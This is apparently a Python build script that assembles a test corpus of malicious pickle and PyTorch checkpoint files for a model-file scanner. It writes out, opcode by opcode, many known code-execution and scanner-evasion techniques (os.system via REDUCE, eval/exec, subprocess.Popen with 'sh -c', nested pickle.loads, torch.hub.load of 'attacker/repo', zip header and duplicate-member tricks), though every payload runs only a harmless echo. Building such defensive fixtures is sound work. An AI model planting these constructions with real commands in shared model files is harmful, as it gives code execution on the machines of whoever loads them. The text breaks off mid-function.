#!/usr/bin/env python3
"""Build WeightPort's hostile pickle corpus: fixtures/hostile/*, fixtures/hostile/hostile.json.

    python3 tools/make_hostile_corpus.py            # (re)write fixtures/hostile/ and check it
    python3 tools/make_hostile_corpus.py --check    # only check: the committed files equal a fresh build

Every file is assembled from raw pickle opcode bytes by the small assembler below (class Asm); containers (PyTorch
zip, legacy stacked pickles, pre-0.4 tar) are written byte by byte too. NOTHING IS EVER UNPICKLED OR EXECUTED:
this script does not call pickle.load(s), torch.load or any loader, and it imports nothing that a payload names
(no torch, os.system, subprocess, marshal, importlib ...). Payload command strings are harmless echo commands and
the marshal "code object" is an inert placeholder; the files are meant for scanners, not for loading.

One file per technique taken from public scanner advisories and tests (mmaitre314/picklescan, protectai/modelscan,
trailofbits/fickling; see fixtures/hostile/README.md). The manifest lists, per file, its container, its parts
(zip members, legacy pickles #1-#5, tar members) and the findings a scanner must report: every GLOBAL, STACK_GLOBAL
and INST opcode, with its part ("location") and its byte offset within that part ("offset"), plus the absolute
offset in the file ("file_offset"; WeightPort reports absolute offsets for legacy and tar parts, part-relative
offsets for zip members). Nested pickles (bytes handed to pickle.loads) are listed too, marked "nested".

What the script checks, without executing anything:
  * pickletools.genops (a disassembler) on every pickle part: the offsets, opcodes and module/name of every
    GLOBAL/INST/STACK_GLOBAL must equal the assembler's records, and no other callable-naming opcode may exist;
  * pickletools.dis on every pickle part must succeed (stack, mark and memo consistency, one value at STOP);
  * zip files: Python's zipfile lists the central directory (and reads members where the trick allows it) and the
    member bytes equal the assembled parts; tar files: tarfile lists the members and their data offsets;
  * determinism: the build runs twice in memory and must give identical bytes; --check compares with the disk.
Run with any Python 3.8+ (stdlib only).
"""
import argparse
import hashlib
import io
import json
import pickletools
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "fixtures" / "hostile"
CMD = "echo weightport-hostile-corpus"  # the "command" of every payload: harmless even if someone loaded a file
MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
CALL_OPS = ("GLOBAL", "INST", "STACK_GLOBAL")
# Python 2 module names as CPython's _compat_pickle (and WeightPort's PickleAllowlist) map them.
COMPAT = {"__builtin__": "builtins", "copy_reg": "copyreg"}


# --------------------------------------------------------------------------------------------------------------
# A tiny pickle assembler: each method appends one opcode; callable-naming opcodes are recorded with their offset.
# --------------------------------------------------------------------------------------------------------------
class Asm:
    def __init__(self):
        self.b = bytearray()
        self.calls = []      # (offset, opcode, module, name, note)
        self.nested = []     # (offset of the nested pickle's first byte within this pickle, Asm)
        self._memo = 0       # MEMOIZE index = number of memo entries so far (as CPython: len(memo))

    def _op(self, code, arg=b""):
        self.b += bytes([code]) + arg
        return self

    # -- control
    def proto(self, n): return self._op(0x80, bytes([n]))
    def frame(self, n): return self._op(0x95, struct.pack("<Q", n))
    def stop(self): return self._op(ord("."))
    def mark(self): return self._op(ord("("))
    def pop(self): return self._op(ord("0"))
    def pop_mark(self): return self._op(ord("1"))
    def dup(self): return self._op(ord("2"))

    # -- callables
    def global_(self, module, name, note=None):
        self.calls.append((len(self.b), "GLOBAL", module, name, note))
        return self._op(ord("c"), f"{module}\n{name}\n".encode())

    def inst(self, module, name, note=None):
        self.calls.append((len(self.b), "INST", module, name, note))
        return self._op(ord("i"), f"{module}\n{name}\n".encode())

    def stack_global(self, module, name, note=None):
        """module/name: what the two str operands are when the pickle runs (the assembler cannot know)."""
        self.calls.append((len(self.b), "STACK_GLOBAL", module, name, note))
        return self._op(0x93)

    def reduce(self): return self._op(ord("R"))
    def build(self): return self._op(ord("b"))
    def obj(self): return self._op(ord("o"))
    def newobj(self): return self._op(0x81)
    def binpersid(self): return self._op(ord("Q"))

    # -- scalars
    def none(self): return self._op(ord("N"))
    def newtrue(self): return self._op(0x88)
    def newfalse(self): return self._op(0x89)
    def binint(self, v): return self._op(ord("J"), struct.pack("<i", v))
    def binint1(self, v): return self._op(ord("K"), bytes([v]))
    def binint2(self, v): return self._op(ord("M"), struct.pack("<H", v))

    def int_(self, v):
        """As CPython's protocol-2 pickler: BININT1, BININT2, BININT, else LONG1."""
        if 0 <= v <= 0xFF:
            return self.binint1(v)
        if 0 <= v <= 0xFFFF:
            return self.binint2(v)
        if -(1 << 31) <= v < (1 << 31):
            return self.binint(v)
        n = (v.bit_length() >> 3) + 1
        return self._op(0x8A, bytes([n]) + v.to_bytes(n, "little", signed=True))

    def long1(self, v):
        n = (v.bit_length() >> 3) + 1
        return self._op(0x8A, bytes([n]) + v.to_bytes(n, "little", signed=True))

    # -- strings and bytes
    def unicode(self, s):                       # BINUNICODE (protocol 1+)
        e = s.encode()
        return self._op(ord("X"), struct.pack("<I", len(e)) + e)

    def short_unicode(self, s):                 # SHORT_BINUNICODE (protocol 4)
        e = s.encode()
        assert len(e) < 256
        return self._op(0x8C, bytes([len(e)]) + e)

    def text_unicode(self, s):                  # UNICODE (protocol 0, raw-unicode-escape, newline-terminated)
        assert "\n" not in s and "\\" not in s and s.isascii()
        return self._op(ord("V"), s.encode() + b"\n")

    def text_string(self, s):                   # STRING (protocol 0, quoted repr)
        assert "'" not in s and "\\" not in s and "\n" not in s and s.isascii()
        return self._op(ord("S"), f"'{s}'\n".encode())

    def binbytes(self, data):                   # BINBYTES (protocol 3)
        return self._op(ord("B"), struct.pack("<I", len(data)) + bytes(data))

    def nested_pickle(self, inner):
        """BINBYTES holding another assembled pickle; its findings are reported as nested."""
        self.nested.append((len(self.b) + 5, inner))
        return self.binbytes(inner.b)

    # -- containers
    def empty_tuple(self): return self._op(ord(")"))
    def tuple_(self): return self._op(ord("t"))
    def tuple1(self): return self._op(0x85)
    def tuple2(self): return self._op(0x86)
    def tuple3(self): return self._op(0x87)
    def empty_list(self): return self._op(ord("]"))
    def empty_dict(self): return self._op(ord("}"))
    def dict_(self): return self._op(ord("d"))
    def append(self): return self._op(ord("a"))
    def appends(self): return self._op(ord("e"))
    def setitem(self): return self._op(ord("s"))
    def setitems(self): return self._op(ord("u"))

    # -- memo
    def put(self, i): return self._op(ord("p"), f"{i}\n".encode())
    def get(self, i): return self._op(ord("g"), f"{i}\n".encode())
    def binput(self, i): return self._op(ord("q"), bytes([i]))
    def long_binput(self, i): return self._op(ord("r"), struct.pack("<I", i))
    def binget(self, i): return self._op(ord("h"), bytes([i]))
    def long_binget(self, i): return self._op(ord("j"), struct.pack("<I", i))

    def memoize(self):
        self._memo += 1
        return self._op(0x94)

    def bytes_(self):
        return bytes(self.b)


# -- building blocks shared by several files ---------------------------------------------------------------------
def call_system(a, module="posix", cmd=CMD):
    """GLOBAL module system; (cmd,) REDUCE -- leaves the call's result on the stack."""
    return a.global_(module, "system").unicode(cmd).tuple1().reduce()


def system_pickle(module="posix", proto=2):
    a = Asm().proto(proto)
    call_system(a, module)
    return a.stop()


def tensor_v2(a, key, numel, shape, legacy, memo):
    """torch._utils._rebuild_tensor_v2(persistent id, 0, shape, stride, False, OrderedDict()) as torch.save writes
    it (protocol 2), with the storage global, 'storage' and 'cpu' memoized once as CPython does."""
    def memo_put():
        i = memo["next"]
        memo["next"] += 1
        a.binput(i)
        return i

    def global_memo(module, name):
        k = f"{module}.{name}"
        if k in memo:
            a.binget(memo[k])
        else:
            a.global_(module, name)
            memo[k] = memo_put()

    def str_memo(s):
        if s in memo:
            a.binget(memo[s])
        else:
            a.unicode(s)
            memo[s] = memo_put()

    global_memo("torch._utils", "_rebuild_tensor_v2")
    a.mark()
    a.mark()                                   # persistent id tuple
    str_memo("storage")
    global_memo("torch", "FloatStorage")
    a.unicode(key)
    memo_put()
    str_memo("cpu")
    a.int_(numel)
    if legacy:
        a.none()                               # view_metadata
    a.tuple_()
    memo_put()
    a.binpersid()
    memo_put()
    a.int_(0)                                  # storage_offset
    for dims in (shape, [int(x) for x in strides_of(shape)]):
        for d in dims:
            a.int_(d)
        (a.tuple1, a.tuple2, a.tuple3)[len(dims) - 1]()
        memo_put()
    a.newfalse()
    global_memo("collections", "OrderedDict")
    a.empty_tuple().reduce()
    memo_put()
    a.tuple_()
    memo_put()
    a.reduce()
    memo_put()


def strides_of(shape):
    s, acc = [], 1
    for d in reversed(shape):
        s.append(acc)
        acc *= d
    return list(reversed(s))


WEIGHT = struct.pack("<4f", 0.5, -1.25, 2.0, 0.125)   # the one small tensor of the "state dicts": float32 [2, 2]


def state_dict_pickle(legacy, key="0", hostile=None):
    """An OrderedDict state dict {'weight': float32[2, 2]}; with hostile=fn(a), a second entry 'extra' whose value
    fn pushes (e.g. a REDUCE of posix.system)."""
    a = Asm().proto(2)
    memo = {"next": 0}
    a.global_("collections", "OrderedDict")
    memo["collections.OrderedDict"] = 0
    a.binput(0)
    memo["next"] = 1
    a.empty_tuple().reduce().binput(memo["next"])
    memo["next"] += 1
    a.mark()
    a.unicode("weight").binput(memo["next"])
    memo["next"] += 1
    tensor_v2(a, key, 4, [2, 2], legacy, memo)
    if hostile is not None:
        a.unicode("extra").binput(memo["next"])
        memo["next"] += 1
        hostile(a)
    a.setitems()
    return a.stop()


# --------------------------------------------------------------------------------------------------------------
# Containers
# --------------------------------------------------------------------------------------------------------------
def zip_archive(records):
    """A zip in the byte layout of torch.save (miniz: STORED, 64-byte aligned data via an 'FB' extra field, flags
    0x0808 with a data descriptor, ZIP64 end records). records: dicts with name, data and optional local_flags /
    central_flags (or'ed into the general-purpose flags of the local header / the central directory entry) and
    local_name (the local header's name, when it differs).
    Returns (bytes, [(central name, local header offset, data offset, size, (local flags, central flags))])."""
    out = bytearray()
    central = []
    layout = []
    for r in records:
        name = r["name"].encode()
        local = r.get("local_name", r["name"]).encode()
        assert len(local) == len(name), "the local name keeps the length so the alignment stays the same"
        data = r["data"]
        flags = 0x0808 | r.get("central_flags", 0)
        crc = zlib.crc32(data) & 0xFFFFFFFF
        offset = len(out)
        start = offset + 30 + len(local) + 4
        pad = (64 - start % 64) % 64
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 0, 0x0808 | r.get("local_flags", 0), 0, 0, 0, 0, 0, 0,
                           len(local), pad + 4)
        out += local + b"FB" + struct.pack("<H", pad) + b"Z" * pad
        data_offset = len(out)
        out += data
        out += struct.pack("<IIII", 0x08074B50, crc, len(data), len(data))
        central.append((name, flags, crc, len(data), offset))
        layout.append((r["name"], offset, data_offset, len(data), (0x0808 | r.get("local_flags", 0), flags)))
    cd_offset = len(out)
    for name, flags, crc, size, offset in central:
        out += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0, 0, flags, 0, 0, 0, crc, size, size, len(name), 0, 0,
                           0, 0, 0, offset)
        out += name
    cd_size = len(out) - cd_offset
    z64 = len(out)
    n = len(central)
    out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 45, 0, 0, n, n, cd_size, cd_offset)
    out += struct.pack("<IIQI", 0x07064B50, 0, z64, 1)
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, cd_size, cd_offset, 0)
    return bytes(out), layout


def torch_zip(data_pkl, extra=(), prefix="archive", local_flags=0, central_flags=0):
    """A torch.save-style zip: data.pkl, data/0 (the [2, 2] weight), version; extra records appended before
    'version' (dicts as zip_archive takes, names relative to the prefix)."""
    records = [dict(name=f"{prefix}/data.pkl", data=data_pkl, local_flags=local_flags, central_flags=central_flags),
               dict(name=f"{prefix}/data/0", data=WEIGHT)]
    for r in extra:
        r = dict(r)
        r["name"] = f"{prefix}/{r['name']}"
        if "local_name" in r:
            r["local_name"] = f"{prefix}/{r['local_name']}"
        records.append(r)
    records.append(dict(name=f"{prefix}/version", data=b"3\n"))
    return zip_archive(records)


LEGACY_NAMES = ["legacy pickle #1 (magic number)", "legacy pickle #2 (protocol version)",
                "legacy pickle #3 (sys_info)", "legacy pickle #4 (object)", "legacy pickle #5 (storage keys)"]


def magic_pickle():
    return Asm().proto(2).long1(MAGIC_NUMBER).stop()


def protocol_pickle():
    return Asm().proto(2).int_(1001).stop()


def sys_info_pickle(hostile=None):
    """{'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 8}}."""
    a = Asm().proto(2)
    a.empty_dict().binput(0).mark()
    a.unicode("protocol_version").binput(1).int_(1001)
    a.unicode("little_endian").binput(2).newtrue()
    a.unicode("type_sizes").binput(3).empty_dict().binput(4).mark()
    a.unicode("short").binput(5).int_(2)
    a.unicode("int").binput(6).int_(4)
    a.unicode("long").binput(7).int_(8)
    a.setitems()
    if hostile is not None:
        a.unicode("extra").binput(8)
        hostile(a)
    a.setitems()
    return a.stop()


def keys_pickle(keys, hostile=None):
    a = Asm().proto(2)
    if hostile is not None:
        hostile(a)
        a.pop()
    a.empty_list().binput(0)
    if len(keys) == 1:
        a.unicode(keys[0]).binput(1).append()
    else:
        a.mark()
        for i, k in enumerate(keys):
            a.unicode(k).binput(1 + i)
        a.appends()
    return a.stop()


LEGACY_KEY = "94431173812400"   # torch names legacy storages by C pointer strings; any decimal string will do


def legacy_file(pickles):
    """Five pickles (Asm) followed by the one storage ('weight', 4 float32) as torch's _legacy_save writes it."""
    out = bytearray()
    parts = []
    for label, p in zip(LEGACY_NAMES, pickles):
        parts.append((label, len(out), p))
        out += p.bytes_()
    storage_at = len(out)
    out += struct.pack("<q", 4) + WEIGHT
    return bytes(out), parts, storage_at


def ustar_header(name, size):
    h = bytearray(512)
    h[0:len(name)] = name.encode()
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = f"{size:011o}\0".encode()
    h[136:148] = b"00000000000\0"
    h[148:156] = b" " * 8
    h[156] = ord("0")
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    checksum = sum(h)
    h[148:156] = f"{checksum:06o}\0 ".encode()
    return bytes(h)


def tar_archive(members):
    """A minimal ustar archive (torch <= 0.1.9 checkpoints are tar files): header + data padded to 512 per member,
    then two zero blocks, without tarfile's padding to 10 KiB records. Returns (bytes, [(name, data offset, size)])."""
    out = bytearray()
    layout = []
    for name, data in members:
        out += ustar_header(name, len(data))
        layout.append((name, len(out), len(data)))
        out += data + b"\0" * ((512 - len(data) % 512) % 512)
    out += b"\0" * 1024
    return bytes(out), layout


def pk_int(v):
    return Asm().proto(2).int_(v).stop().bytes_()


def tar_members(pickle_member, sys_info_member):
    """storages: one FloatStorage (key 140001) of 4 elements, no views; tensors: one [2, 2] tensor (key 150001);
    pickle: the object, which refers to the tensor by persistent id '150001'."""
    storages = bytearray(pk_int(1))
    h = Asm().proto(2).int_(140001).unicode("cpu").global_("torch", "FloatStorage").tuple3().stop()
    storages_header_at = len(storages)
    storages += h.bytes_()
    storages += struct.pack("<q", 4) + WEIGHT
    storages += Asm().proto(2).empty_list().stop().bytes_()
    tensors = bytearray(pk_int(1))
    t = Asm().proto(2).int_(150001).int_(140001).global_("torch", "FloatTensor").tuple3().stop()
    tensors_header_at = len(tensors)
    tensors += t.bytes_()
    tensors += struct.pack("<i", 2) + b"\0" * 4 + struct.pack("<2q", 2, 2) + struct.pack("<2q", 2, 1) + struct.pack("<q", 0)
    return [("sys_info", sys_info_member), ("pickle", pickle_member), ("tensors", bytes(tensors)),
            ("storages", bytes(storages))], {"storages": [(storages_header_at, h)], "tensors": [(tensors_header_at, t)]}


def tar_object_pickle(hostile=None):
    """{'weight': <tensor 150001>} (+ 'extra': hostile) with the tensor as persistent id '150001'."""
    a = Asm().proto(2).empty_dict().binput(0).mark()
    a.unicode("weight").binput(1).unicode("150001").binput(2).binpersid().binput(3)
    if hostile is not None:
        a.unicode("extra").binput(4)
        hostile(a)
    a.setitems()
    return a.stop()


def tar_sys_info_pickle(hostile=None):
    a = Asm().proto(2).empty_dict().binput(0).mark()
    a.unicode("protocol_version").binput(1).int_(1000)
    a.unicode("little_endian").binput(2).newtrue()
    if hostile is not None:
        a.unicode("extra").binput(3)
        hostile(a)
    a.setitems()
    return a.stop()


# --------------------------------------------------------------------------------------------------------------
# The corpus. Each builder returns (file bytes, container, parts), parts = [(location, file offset, Asm or None)].
# --------------------------------------------------------------------------------------------------------------
PLAIN = "plain pickle"
LEGACY = "legacy torch (stacked pickles)"
ZIP = "torch zip"
TAR = "torch tar (pre-0.4)"

PICKLESCAN = "https://github.com/mmaitre314/picklescan"
PS_TESTS = PICKLESCAN + "/blob/main/tests/init_data_files.py"
PS_SCANNER = PICKLESCAN + "/blob/main/src/picklescan/scanner.py"


def plain(a):
    return lambda name: (a.bytes_(), PLAIN, [(name, 0, a)])


def f_memo_binput_vs_memoize():
    # BINPUT / LONG_BINPUT store under explicit indices, MEMOIZE under len(memo): a scanner that counts MEMOIZE only
    # believes memo[0], memo[1] hold 'torch._utils', '_rebuild_tensor_v2' -- they hold 'posix', 'system'.
    a = Asm().proto(4)
    a.short_unicode("posix").long_binput(0).pop()
    a.short_unicode("system").binput(1).pop()
    a.short_unicode("torch._utils").memoize().pop()          # real index 2
    a.short_unicode("_rebuild_tensor_v2").memoize().pop()    # real index 3
    a.binget(0).binget(1)
    a.stack_global("posix", "system", "operands from memo[0], memo[1] (BINPUT/LONG_BINPUT), not the MEMOIZE'd strings")
    a.short_unicode(CMD).tuple1().reduce().stop()
    return plain(a)


def f_memo_text_put_get():
    # Protocol-0 text PUT/GET with indices chosen so that a scanner ignoring the PUT argument maps GET 2/3 to the
    # last strings it saw ('torch', 'LongStorage'): the picklescan issue #22 CTF pickle (tests/data/malicious11.pkl).
    a = Asm()
    a.text_unicode("os").put(2).pop()
    a.text_unicode("system").put(3).pop()
    a.text_unicode("torch").put(0).pop()
    a.text_unicode("LongStorage").put(1).pop()
    a.get(2).get(3)
    a.stack_global("os", "system", "operands from text GET 2, GET 3")
    a.mark().text_unicode(CMD).tuple_().reduce().stop()
    return plain(a)


def f_stack_global_memo_strings():
    # The module and name are memoized, then harmless literals are pushed (and dropped) right before STACK_GLOBAL:
    # a scanner that takes "the last two string literals" as the operands sees collections.OrderedDict.
    a = Asm().proto(4)
    a.short_unicode("posix").memoize().pop()                 # memo[0]
    a.short_unicode("system").memoize().pop()                # memo[1]
    a.short_unicode("collections").memoize().pop()
    a.short_unicode("OrderedDict").memoize().pop()
    a.binget(0).long_binget(1)
    a.stack_global("posix", "system", "operands fetched with BINGET 0 / LONG_BINGET 1")
    a.short_unicode(CMD).tuple1().reduce().stop()
    return plain(a)


def f_build_setattr():
    # protectai/modelscan#85: BUILD with (None, slotstate) is setattr() on any object, here the function numpy.prod;
    # the attributes are then fetched as globals 'numpy prod.a' / 'prod.b' (dotted names, protocol 4) and fed,
    # through the memo, to STACK_GLOBAL. Statically the STACK_GLOBAL operands are not strings at all.
    a = Asm().proto(4)
    a.global_("numpy", "prod")
    a.none().mark().text_unicode("a").text_unicode("posix").dict_().tuple2().build()
    a.none().mark().text_unicode("b").text_unicode("system").dict_().tuple2().build()
    a.pop()
    a.global_("numpy", "prod.a").put(0)
    a.global_("numpy", "prod.b").put(1)
    a.pop().pop()
    a.get(0).get(1)
    a.stack_global("<dynamic>", "<dynamic>", "operands are the values of numpy.prod.a / numpy.prod.b, set by BUILD "
                   "(setattr) earlier: posix.system when run")
    a.text_unicode(CMD).tuple1().reduce().stop()
    return plain(a)


def f_setstate_partial():
    # BUILD calls the object's __setstate__: functools.partial.__setstate__((func, args, kwds, dict)) replaces the
    # wrapped function, so partial(print) becomes partial(posix.system, CMD), which REDUCE then calls.
    a = Asm().proto(2)
    a.global_("functools", "partial").global_("builtins", "print").tuple1().reduce()
    a.mark().global_("posix", "system").unicode(CMD).tuple1().empty_dict().none().tuple_()
    a.build()
    a.empty_tuple().reduce().stop()
    return plain(a)


def f_inst_proto0():
    # INST: MARK, arguments, INST module name -- calls module.name(*args) (picklescan tests/data/malicious10.pkl).
    a = Asm().mark().text_string(CMD).inst("os", "system").stop()
    return plain(a)


def f_obj_proto1():
    # OBJ: MARK, class (pushed by GLOBAL), arguments, OBJ -- calls cls(*args); protocol 1 has no PROTO opcode.
    a = Asm().mark().global_("posix", "system", "called by OBJ").unicode(CMD).obj().stop()
    return plain(a)


def f_nested_pickle_loads():
    # _pickle.loads(b'<pickle that calls posix.system>'): the inner globals are data to a scanner that does not
    # decode nested pickles (picklescan PR #25, tests malicious13a/b; modelscan#267).
    inner = system_pickle("posix")
    a = Asm().proto(3).global_("_pickle", "loads").nested_pickle(inner).tuple1().reduce().stop()
    return plain(a)


def f_importlib_import_module():
    # getattr(importlib.import_module('posix'), 'system')(CMD): no GLOBAL names posix (picklescan#66, PR #74).
    a = Asm().proto(2)
    a.global_("builtins", "getattr")
    a.global_("importlib", "import_module").unicode("posix").tuple1().reduce()
    a.unicode("system").tuple2().reduce()
    a.unicode(CMD).tuple1().reduce().stop()
    return plain(a)


def f_marshal_functiontype():
    # types.FunctionType(marshal.loads(code bytes), {})() (picklescan PR #74; fickling's UNSAFE_IMPORTS list
    # marshal and types). The bytes here are an inert placeholder, not a valid marshalled code object.
    a = Asm().proto(3)
    a.global_("types", "FunctionType")
    a.global_("marshal", "loads").binbytes(b"\xe3" + b"\0" * 15 + b"placeholder: not a code object")
    a.tuple1().reduce()
    a.empty_dict().tuple2().reduce()
    a.empty_tuple().reduce().stop()
    return plain(a)


def f_runpy_run_code():
    # runpy._run_code(source, globals) execs the source (picklescan tests Malicious14).
    a = Asm().proto(2).global_("runpy", "_run_code")
    a.unicode(f"__import__('os').system('{CMD}')").empty_dict().tuple2().reduce().stop()
    return plain(a)


def f_builtins_eval_exec():
    # eval and exec under both spellings: __builtin__ (Python 2, mapped to builtins) and builtins.
    a = Asm().proto(2)
    a.global_("__builtin__", "eval").unicode(f"__import__('os').system('{CMD}')").tuple1().reduce().pop()
    a.global_("builtins", "exec").unicode(f"import os; os.system('{CMD}')").tuple1().reduce().stop()
    return plain(a)


def f_getattr_chain():
    # getattr(getattr(__import__('builtins'), '__import__')('posix'), 'system')(CMD): only builtins globals appear
    # (the "sour pickles" style of picklescan tests/data/malicious0.pkl).
    a = Asm().proto(2)
    a.global_("builtins", "getattr").binput(0)
    a.binget(0)
    a.global_("builtins", "__import__").unicode("builtins").tuple1().reduce()
    a.unicode("__import__").tuple2().reduce()
    a.unicode("posix").tuple1().reduce()
    a.unicode("system").tuple2().reduce()
    a.unicode(CMD).tuple1().reduce().stop()
    return plain(a)


def f_operator_attrgetter():
    # operator.attrgetter('system')(__import__('os'))(CMD) with STACK_GLOBAL and a FRAME (picklescan
    # tests/data/malicious12.pkl, written with pickleassem).
    body = Asm()
    body.short_unicode("operator").memoize().short_unicode("attrgetter").memoize()
    body.stack_global("operator", "attrgetter").memoize()
    body.short_unicode("system").memoize().tuple1().memoize().reduce().memoize()
    body.short_unicode("builtins").memoize().short_unicode("__import__").memoize()
    body.stack_global("builtins", "__import__").memoize()
    body.short_unicode("os").memoize().tuple1().memoize().reduce().memoize()
    body.tuple1().memoize().reduce().memoize()
    body.short_unicode(CMD).memoize().tuple1().memoize().reduce().memoize().stop()
    a = Asm().proto(4).frame(len(body.b))
    base = len(a.b)
    a.b += body.b
    a.calls += [(o + base, op, m, n, note) for o, op, m, n, note in body.calls]
    return plain(a)


def f_operator_methodcaller_private():
    # _operator.methodcaller('system', CMD)(__import__('posix')): the C module's name, not 'operator'
    # (picklescan PR #54, GHSA-955r-x9j8-7rhh / GHSA-46h3-79wf-xr6c).
    a = Asm().proto(2)
    a.global_("_operator", "methodcaller").unicode("system").unicode(CMD).tuple2().reduce()
    a.global_("builtins", "__import__").unicode("posix").tuple1().reduce()
    a.tuple1().reduce().stop()
    return plain(a)


def f_subprocess_popen():
    # subprocess.Popen(['sh', '-c', CMD]) (picklescan tests Malicious7 uses subprocess.run).
    a = Asm().proto(2).global_("subprocess", "Popen")
    a.empty_list().binput(0).mark().unicode("sh").unicode("-c").unicode(CMD).appends()
    a.tuple1().reduce().stop()
    return plain(a)


def f_webbrowser_open():
    # webbrowser.open(url) -- on picklescan's unsafe list.
    a = Asm().proto(2).global_("webbrowser", "open").unicode("https://example.invalid/weightport-hostile-corpus")
    a.tuple1().reduce().stop()
    return plain(a)


def f_torch_load_partial():
    # functools.partial(torch.load, path, weights_only=False)() set up through partial.__setstate__ (picklescan tests
    # Malicious19 pickles partial(torch.load, path, **kwargs)): a checkpoint that loads another, unchecked file.
    a = Asm().proto(2)
    a.global_("functools", "partial").global_("torch", "load").binput(0).tuple1().reduce()
    a.mark().binget(0).unicode("other_model.bin").tuple1()
    a.empty_dict().unicode("weights_only").newfalse().setitem()
    a.none().tuple_().build()
    a.empty_tuple().reduce().stop()
    return plain(a)


def f_torch_hub_load():
    # torch.hub.load('owner/repo', 'entry'): fetches and runs a repository's hubconf.py (fickling's ML-unsafe list).
    a = Asm().proto(2).global_("torch.hub", "load").unicode("attacker/repo").unicode("entry").tuple2().reduce().stop()
    return plain(a)


def legacy(pickles):
    def build(name):
        data, parts, _ = legacy_file(pickles)
        return data, LEGACY, [(label, at, p) for label, at, p in parts]
    return build


def benign_object():
    return state_dict_pickle(legacy=True, key=LEGACY_KEY)


def f_legacy_magic_eval_bypass():
    # picklescan tests/data/pytorch_magic_bypass.pt: the "magic number" pickle is __builtin__.eval of a string that
    # evaluates to 0x1950a86a20f9469cfc6c, so torch's check passes after the eval ran; posix.system in the object.
    magic = Asm().proto(2).global_("__builtin__", "eval").unicode("0x1950a86a20f9469cfc6c").tuple1().reduce().stop()
    obj = state_dict_pickle(legacy=True, key=LEGACY_KEY, hostile=lambda a: call_system(a))
    return legacy([magic, protocol_pickle(), sys_info_pickle(), obj, keys_pickle([LEGACY_KEY])])


def f_legacy_protocol_payload():
    # The protocol-version pickle runs the payload and still yields 1001, so torch goes on loading.
    proto = Asm().proto(2).global_("__builtin__", "eval")
    proto.unicode(f"__import__('posix').system('{CMD}') or 1001").tuple1().reduce().stop()
    return legacy([magic_pickle(), proto, sys_info_pickle(), benign_object(), keys_pickle([LEGACY_KEY])])


def f_legacy_sys_info_payload():
    sysinfo = sys_info_pickle(hostile=lambda a: call_system(a))
    return legacy([magic_pickle(), protocol_pickle(), sysinfo, benign_object(), keys_pickle([LEGACY_KEY])])


def f_legacy_object_payload():
    obj = state_dict_pickle(legacy=True, key=LEGACY_KEY, hostile=lambda a: call_system(a))
    return legacy([magic_pickle(), protocol_pickle(), sys_info_pickle(), obj, keys_pickle([LEGACY_KEY])])


def f_legacy_storage_keys_payload():
    # torch unpickles the storage key list (#5) too; a scanner that stops after the object pickle misses it.
    keys = keys_pickle([LEGACY_KEY], hostile=lambda a: call_system(a))
    return legacy([magic_pickle(), protocol_pickle(), sys_info_pickle(), benign_object(), keys])


def f_legacy_magic_not_int():
    # Benign otherwise: the magic pickle holds the magic number as a str. torch refuses it ("Invalid magic number");
    # a reader must too, and a scanner must not take it for a plain pickle followed by junk.
    magic = Asm().proto(2).unicode("0x1950a86a20f9469cfc6c").stop()
    return legacy([magic, protocol_pickle(), sys_info_pickle(), benign_object(), keys_pickle([LEGACY_KEY])])


def zipped(records_fn):
    def build(name):
        data, layout, pickles = records_fn()
        parts = []
        for member, lho, data_offset, size, flags in layout:
            p = pickles.get((member, lho))
            parts.append((member, data_offset, p, dict(local_header_offset=lho, size=size, local_flags=f"0x{flags[0]:04x}",
                                                       central_flags=f"0x{flags[1]:04x}")))
        return data, ZIP, parts
    return build


def hostile_state_dict():
    return state_dict_pickle(legacy=False, hostile=lambda a: call_system(a))


def benign_state_dict():
    return state_dict_pickle(legacy=False)


def simple_zip(data_pkl, extra=(), local_flags=0, central_flags=0, extra_pickles=()):
    data, layout = torch_zip(data_pkl.bytes_(), extra, local_flags=local_flags, central_flags=central_flags)
    pickles = {}
    for member, lho, *_ in layout:
        if member == "archive/data.pkl" and not any(k[0] == member for k in pickles):
            pickles[(member, lho)] = data_pkl
    for member, p in extra_pickles:
        lho = [l for m, l, *_ in layout if m == member][-1]
        pickles[(member, lho)] = p
    return data, layout, pickles


def f_zip_state_dict_payload():
    # The baseline: a normal torch zip whose state dict holds one more value, a REDUCE of posix.system
    # (safetensors' attacks/torch_ace_create.py does the same through a dict subclass).
    return zipped(lambda: simple_zip(hostile_state_dict()))


def f_zip_flag(bit, central):
    # General-purpose flag bits 0x1 (encrypted), 0x20 (compressed patched data), 0x40 (strong encryption):
    # GHSA-w8jq-xcqf-f792 / CVE-2025-1945 ("crashes picklescan but not PyTorch"). In the local header only, torch
    # 1.13 (miniz reads the central directory) still loads the file; scanners that check local headers may stop.
    # In the central directory too, torch 1.13 and Python's zipfile refuse the member (checked on benign twins).
    return lambda: zipped(lambda: simple_zip(hostile_state_dict(), local_flags=bit, central_flags=bit if central else 0))


def f_zip_duplicate_data_pkl():
    # Two 'archive/data.pkl' entries: the first benign, the second hostile. Readers disagree on which one wins
    # (Python's zipfile: the last central directory entry).
    second = hostile_state_dict()
    data, layout, _ = simple_zip(benign_state_dict(), extra=[dict(name="data.pkl", data=second.bytes_())])
    first_lho, second_lho = [l for m, l, *_ in layout if m == "archive/data.pkl"]
    return zipped(lambda: (data, layout, {("archive/data.pkl", first_lho): benign_state_dict(),
                                          ("archive/data.pkl", second_lho): second}))


def f_zip_extra_member(member):
    # data.pkl is benign; the payload sits in another member that a scanner must still disassemble: a second '.pkl'
    # name, a non-pickle extension (GHSA-769v-p64c-89pr / CVE-2025-1889), a torch metadata record, or a storage
    # record that no persistent id uses (promptfoo/modelaudit PR #1043: "hidden pytorch zip pickles").
    def build():
        p = Asm().proto(2)
        call_system(p)
        p.stop()
        return simple_zip(benign_state_dict(), extra=[dict(name=member, data=p.bytes_())],
                          extra_pickles=[(f"archive/{member}", p)])
    return lambda: zipped(build)


def f_zip_local_name_mismatch():
    # The local header names 'archive/datap.kl', the central directory 'archive/data.pkl' (GHSA-7q5r-7gvp-wc82 /
